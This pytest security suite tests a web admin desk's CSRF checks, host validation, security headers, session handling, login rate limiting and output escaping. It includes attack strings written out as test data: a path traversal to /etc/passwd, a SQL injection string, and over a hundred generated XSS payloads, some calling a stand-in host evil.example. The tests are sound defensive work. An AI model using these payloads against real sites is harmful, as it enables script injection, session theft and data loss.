"""What the desk's pages are guarded with: forms from elsewhere, guessed passwords, other hosts, markup in what people wrote."""

from __future__ import annotations

import re
from html import escape
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote

import pytest
from sqlalchemy import select, update

from pipeline.desk.desk import PAGES
from pipeline.desk.seen import Page
from pipeline.desk.web import LARGEST_FORM
from pipeline.store import accounts
from pipeline.store.login_attempts import AT_ONE_ACCOUNT
from pipeline.store.schema import sessions as sessions_table
from tests.desk_world import BROWSER, MINE, PASSWORD, World, make_world
from tests.integration.test_desk_access import FORM, paths

POSTS = [page for page in PAGES if page.method == "POST"]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    return make_world(tmp_path_factory.mktemp("desk"))


# ---- forms ----


@pytest.mark.parametrize("page", POSTS, ids=lambda page: page.path)
def test_a_form_without_its_token_or_from_another_site_does_nothing(world: World, page: object) -> None:
    browser, other = world.browser("admin"), world.browser("client_success")
    good, before = {"csrf": world.token(browser), **FORM}, world.everything()
    elsewhere: list[dict[str, str]] = [
        {"sec-fetch-site": "cross-site", "origin": "https://evil.example"},
        {"sec-fetch-site": "same-site", "origin": "https://portal.desk.test"},
        {"sec-fetch-site": "same-origin", "origin": "https://evil.example"},
        {"sec-fetch-site": "none", "origin": "null"},
        {"sec-fetch-site": "cross-site", "origin": BROWSER["origin"]},
    ]
    for path in paths(page, world.ids[MINE]):  # type: ignore[arg-type]
        for headers in elsewhere:
            assert browser.post(path, data=good, headers=headers).status_code == 403, headers
        assert browser.post(path, data=FORM).status_code == 400
        assert browser.post(path, data={**good, "csrf": world.token(other)}).status_code == 400
        assert browser.post(path, data={**good, "csrf": "é"}).status_code == 400
    assert world.everything() == before


def test_a_form_whose_sender_nobody_names_is_refused(world: World) -> None:
    browser = world.browser("admin")
    for name in BROWSER:
        del browser.headers[name]
    assert world.post(browser, "/leads", words="x").status_code == 403


def test_a_form_larger_than_any_of_ours_is_refused(world: World) -> None:
    browser = world.browser("admin")
    assert world.post(browser, "/leads", words="x" * (LARGEST_FORM + 1)).status_code == 413

    def pieces() -> object:
        yield b"csrf=x&words="
        for _ in range(40):
            yield b"x" * 8192

    sent = browser.post("/leads", content=pieces(), headers={"content-type": "application/x-www-form-urlencoded"})
    assert sent.status_code == 413


@pytest.mark.parametrize("text", ["\x00", "a\x00b"])
def test_what_the_store_cannot_keep_is_a_bad_request(world: World, text: str) -> None:
    browser = world.browser("admin")
    assert world.post(browser, "/leads", words=text).status_code == 400
    assert browser.get("/leads/ridgeline/%00").status_code == 404
    assert browser.get("/outputs", params={"status": text}).status_code == 404


ODD = [
    "",
    " ",
    "0",
    "-1",
    "9" * 40,
    "null",
    "../../etc/passwd",
    "%",
    "'; drop table leads; --",
    "é😀\u202e",
    "\ud800",
    "a" * 5000,
    "<b>",
]


@pytest.mark.parametrize("page", PAGES, ids=lambda page: f"{page.method} {page.path}")
def test_no_odd_input_is_a_server_error(world: World, page: Page) -> None:
    """A taste; `make soak` has schemathesis do it for long."""
    browser, ids = world.browser("client_success"), world.ids[MINE]
    names = re.findall(r"{(\w+)}", page.path)
    for odd in ODD:
        said = odd.encode("utf-8", "replace").decode()
        odd_paths = [
            page.path.format(**{**ids, "move": "pause", "decision": "edit", name: quote(said, safe="") or "x"})
            for name in names
        ]
        for path in [*odd_paths, page.path.format(**{**ids, "move": "enable", "decision": "approve"})]:
            if page.method == "GET":
                answer = browser.get(
                    path, params=dict.fromkeys(("client", "page", "status", "view", "version", "model", "done"), said)
                )
            else:
                answer = world.post(
                    browser, path, **dict.fromkeys((*FORM, "client", "words", "version", "page", "stage"), said)
                )
            assert answer.status_code < 500, (path, said)


# ---- who answers, and how ----


@pytest.mark.parametrize("host", ["evil.example", "desk.test.evil.example", "127.0.0.1", "desk.test:8443"])
def test_another_host_is_not_answered(world: World, host: str) -> None:
    assert world.browser().get("/sign-in", headers={"host": host}).status_code == 421


def test_every_answer_tells_the_browser_to_run_nothing_embed_nothing_and_keep_nothing(world: World) -> None:
    browser = world.browser("admin")
    sheet = re.search(r"/static/desk\.\w+\.css", browser.get("/").text)
    assert sheet
    answers = [browser.get(path) for path in ("/", "/nowhere", "/sign-in", "/healthz", sheet[0])]
    answers += [browser.post("/leads", data={}), world.browser().get("/"), browser.put("/leads", data={})]
    assert {answer.status_code for answer in answers} >= {200, 303, 400, 404, 405}
    for answer in answers:
        policy = answer.headers["content-security-policy"]
        assert "default-src 'none'" in policy
        for rule in ("object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "form-action 'self'"):
            assert rule in policy
        assert "script-src" not in policy
        assert "unsafe" not in policy
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["referrer-policy"] == "same-origin"
        assert answer.headers["strict-transport-security"].startswith("max-age=31536000")
        kept = "immutable" in answer.headers["cache-control"]
        assert kept == (answer.request.url.path == sheet[0])
        assert kept or answer.headers["cache-control"] == "no-store"


def test_what_breaks_tells_the_visitor_and_the_log_nothing_personal(
    world: World, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    def broken(*args: object, **kwargs: object) -> object:
        raise RuntimeError("could not insert ('Camila', '+15125550142')")

    monkeypatch.setattr("pipeline.desk.marts.Marts.rows", broken)
    answer = world.browser("admin").get("/leads")
    assert answer.status_code == 500
    for said in (answer.text, caplog.text):
        assert "Camila" not in said
        assert "5550142" not in said
    reference = re.search(r"Reference (\w{8})", answer.text)
    assert reference
    assert reference[1] in caplog.text


# ---- signing in ----


def test_signing_in_gives_a_cookie_that_no_script_and_no_other_site_can_use(world: World) -> None:
    email = world.accounts["admin"].email
    answer = world.browser().post("/sign-in", data={"email": email, "password": PASSWORD, "next": "/holds"})
    assert answer.status_code == 303
    assert answer.headers["location"] == "/holds"
    cookie = answer.headers["set-cookie"]
    assert cookie.startswith("__Host-leadtrail-desk=")
    for word in ("Secure", "HttpOnly", "SameSite=lax", "Path=/"):
        assert word in cookie
    assert "Domain" not in cookie


@pytest.mark.parametrize(
    "then", ["https://evil.example", "//evil.example", "/\\evil.example", "javascript:alert(1)", "\t//evil.example", ""]
)
def test_where_one_goes_after_signing_in_is_never_another_site(world: World, then: str) -> None:
    email = world.accounts["admin"].email
    answer = world.browser().post("/sign-in", data={"email": email, "password": PASSWORD, "next": then})
    assert answer.headers["location"] == "/"


def test_signing_in_again_leaves_no_second_session_and_a_planted_token_is_not_taken_over(world: World) -> None:
    browser = world.browser("admin")
    planted = browser.cookies["__Host-leadtrail-desk"]
    form = {"csrf": world.token(browser), "email": world.accounts["admin"].email, "password": PASSWORD}
    assert browser.post("/sign-in", data=form).status_code == 303
    assert browser.cookies["__Host-leadtrail-desk"] != planted
    stale = world.browser()
    stale.cookies.set("__Host-leadtrail-desk", planted)
    assert stale.get("/").status_code == 303


def test_signing_out_ends_the_session_itself_not_only_the_cookie(world: World) -> None:
    browser = world.browser("admin")
    token = browser.cookies["__Host-leadtrail-desk"]
    assert world.post(browser, "/sign-out").status_code == 303
    again = world.browser()
    again.cookies.set("__Host-leadtrail-desk", token)
    assert again.get("/").status_code == 303


def test_an_account_that_is_disabled_is_refused_at_its_next_request(world: World) -> None:
    email = "leaving@agency.example"
    with world.office.engine.begin() as connection:
        world.accounts["leaving"] = accounts.add_account(
            connection, email, name="L", role="analyst", clients=[MINE], by="t", now=world.now, password=PASSWORD
        )
    browser = world.browser("leaving")
    assert browser.get("/").status_code == 200
    with world.office.engine.begin() as connection:
        accounts.disable(connection, email, by="test", now=world.now)
    assert browser.get("/").status_code == 303


def test_a_session_that_nobody_used_for_hours_is_over(world: World) -> None:
    browser = world.browser("analyst")
    with world.office.engine.begin() as connection:
        connection.execute(update(sessions_table).values(last_seen_at="2026-01-01T00:00:00.000000+00:00"))
    assert browser.get("/").status_code == 303


def test_guessing_a_password_is_stopped_and_nobody_else_is(world: World) -> None:
    browser, email = world.browser(), world.accounts["client_success"].email
    tried = [
        browser.post("/sign-in", data={"email": email, "password": f"wrong {i}"}) for i in range(AT_ONE_ACCOUNT + 2)
    ]
    assert [one.status_code for one in tried] == [403] * AT_ONE_ACCOUNT + [429, 429]
    assert int(tried[-1].headers["retry-after"]) > 60
    right = browser.post("/sign-in", data={"email": email, "password": PASSWORD})
    assert right.status_code == 429  # not even the right one, from there
    other = browser.post("/sign-in", data={"email": world.accounts["analyst"].email, "password": PASSWORD})
    assert other.status_code == 303


def test_an_account_that_does_not_exist_is_answered_like_a_wrong_password(world: World) -> None:
    def body(email: str) -> str:
        answer = world.browser().post("/sign-in", data={"email": email, "password": "wrong"})
        assert answer.status_code == 403
        return str(answer.text).replace(email, "")

    assert body(world.accounts["admin"].email) == body("nobody@agency.example")


def test_tokens_and_passwords_stand_in_no_page_and_no_address(world: World) -> None:
    browser = world.browser("admin")
    token = browser.cookies["__Host-leadtrail-desk"]
    with world.office.engine.connect() as connection:
        assert token not in repr(connection.execute(select(sessions_table)).all())
    for page in PAGES:
        if page.method == "GET":
            for path in paths(page, world.ids[MINE]):
                assert token not in browser.get(path).text


# ---- markup in what others wrote ----

PAYLOADS = [
    opening + inside + closing
    for opening in ("<script>", "\"><script>", "'><img src=x onerror=", "<svg onload=", "</title><script>", "{{", "javascript:")
    for inside in (
        "alert(1)", "alert(document.domain)", "fetch('//evil.example')", "location='//evil.example'", "import('//x')",
        "top.postMessage(1)", "eval('1')", "7*7", "self.constructor", "document.write('<b>')", "`${1}`", "&#97;lert(1)",
        "\\u0061lert(1)", "%3Cscript%3E", "<!--",
    )
    for closing in ("</script>", ">", "}}")[:1 if opening == "<script>" else 3][:2]
]  # fmt: skip


class Seen(HTMLParser):
    """What a browser would make of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "img", "iframe", "object", "embed", "base", "style", "math"):
            self.bad.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.bad.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction") and not (value or "").startswith(("/", "#")):
                self.bad.append(f"{tag} {name}={value}")


def test_there_are_a_hundred_payloads_and_more() -> None:
    assert len(set(PAYLOADS)) > 100


def test_markup_in_names_notes_campaigns_and_messages_is_shown_as_text_on_every_page(tmp_path: Path) -> None:
    payload = " ".join(dict.fromkeys(PAYLOADS))
    world = make_world(tmp_path, words={"any": payload})
    browser, shown = world.browser("admin"), 0
    for page in PAGES:
        if page.method == "POST":
            continue
        for path in paths(page, world.ids[MINE]):
            answer = browser.get(path)
            assert answer.status_code == 200, path
            seen = Seen()
            seen.feed(answer.text)
            assert seen.bad == [], path
            for one in PAYLOADS:
                assert escape(one) == one or one not in answer.text, (path, one)
            shown += "&lt;script&gt;alert(document.domain)" in answer.text
    assert shown > 8


def test_a_search_for_markup_is_given_back_as_text(world: World) -> None:
    answer = world.post(world.browser("admin"), "/leads", words='"><script>alert(1)</script>')
    seen = Seen()
    seen.feed(answer.text)
    assert seen.bad == []
    assert "&lt;script&gt;" in answer.text
